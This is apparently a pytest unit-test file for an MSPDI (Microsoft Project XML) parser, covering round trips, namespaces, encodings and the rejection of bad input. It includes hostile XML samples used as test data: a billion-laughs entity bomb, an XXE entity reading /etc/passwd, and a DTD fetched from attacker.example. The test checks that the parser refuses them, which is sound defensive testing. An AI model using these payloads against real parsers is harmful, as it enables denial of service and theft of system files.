"""Parsing MSPDI safely and serialising it unchanged."""

from __future__ import annotations

import pytest

from adapters.msproject.xmldoc import PlanFormatError, parse
from tests.unit.msproject.helpers import WEBSITE, c14n

LIMIT = 1 << 20
MINIMAL = b'<?xml version="1.0"?>\n<Project xmlns="http://schemas.microsoft.com/project"><Name>p</Name></Project>'


def test_an_unchanged_document_serialises_to_the_same_bytes() -> None:
    """Our own plan comes back byte for byte, declaration and indentation included."""
    data = WEBSITE.read_bytes()
    assert parse(data, "website.xml", max_bytes=LIMIT).to_bytes() == data


def test_the_2007_namespace_and_no_namespace_are_accepted() -> None:
    """Files in the 2007 namespace, or in none, parse and keep their namespace."""
    for namespace in (b' xmlns="http://schemas.microsoft.com/project/2007"', b""):
        data = MINIMAL.replace(b' xmlns="http://schemas.microsoft.com/project"', namespace)
        doc = parse(data, "p.xml", max_bytes=LIMIT)
        assert c14n(doc.to_bytes()) == c14n(data)


def test_a_byte_order_mark_and_another_encoding_are_kept() -> None:
    """A UTF-8 BOM and a declared single-byte encoding survive a round trip."""
    data = b"\xef\xbb\xbf" + MINIMAL
    assert parse(data, "p.xml", max_bytes=LIMIT).to_bytes() == data
    latin = MINIMAL.replace(b'version="1.0"', b'version="1.0" encoding="ISO-8859-1"').replace(
        b"<Name>p</Name>", "<Name>Café</Name>".encode("latin-1")
    )
    doc = parse(latin, "p.xml", max_bytes=LIMIT)
    assert doc.to_bytes() == latin


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Project [
 <!ENTITY a "aaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<Project xmlns="http://schemas.microsoft.com/project"><Name>&c;</Name></Project>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project xmlns="http://schemas.microsoft.com/project"><Name>&secret;</Name></Project>"""

NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://attacker.example/evil.dtd">
<Project xmlns="http://schemas.microsoft.com/project"><Name>x</Name></Project>"""


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, EXTERNAL_ENTITY, NETWORK_DTD], ids=["laughs", "xxe", "dtd"]
)
def test_hostile_xml_is_refused(data: bytes) -> None:
    """DTDs and entities are refused before anything is expanded or fetched."""
    with pytest.raises(PlanFormatError, match=r"hostile\.xml:1: a DTD"):
        parse(data, "hostile.xml", max_bytes=LIMIT)


def test_malformed_xml_names_file_and_line() -> None:
    """Broken XML is refused with the file and the line of the fault."""
    data = MINIMAL.replace(b"</Name>", b"</Nam>")
    with pytest.raises(PlanFormatError, match=r"bad\.xml:2: not well-formed"):
        parse(data, "bad.xml", max_bytes=LIMIT)


def test_a_file_that_is_not_a_project_is_refused() -> None:
    """Another XML document is refused, naming its root element."""
    with pytest.raises(PlanFormatError, match=r"feed\.xml:1: element <rss>"):
        parse(b"<rss><channel/></rss>", "feed.xml", max_bytes=LIMIT)


def test_an_unknown_namespace_is_refused() -> None:
    """A <Project> in a namespace that is not Microsoft Project's is refused."""
    data = MINIMAL.replace(b"schemas.microsoft.com/project", b"example.com/project")
    with pytest.raises(PlanFormatError, match="unknown namespace"):
        parse(data, "p.xml", max_bytes=LIMIT)


def test_a_file_over_the_limit_is_refused() -> None:
    """The size limit holds before parsing."""
    with pytest.raises(PlanFormatError, match="over the limit"):
        parse(MINIMAL, "p.xml", max_bytes=10)


def test_notes_quoting_a_dtd_are_not_taken_for_one() -> None:
    """Text that merely quotes <!DOCTYPE or <!ENTITY inside the document parses."""
    data = MINIMAL.replace(b"<Name>p</Name>", b"<Name><![CDATA[<!DOCTYPE x> <!ENTITY y>]]></Name>")
    assert parse(data, "p.xml", max_bytes=LIMIT).to_bytes() == data
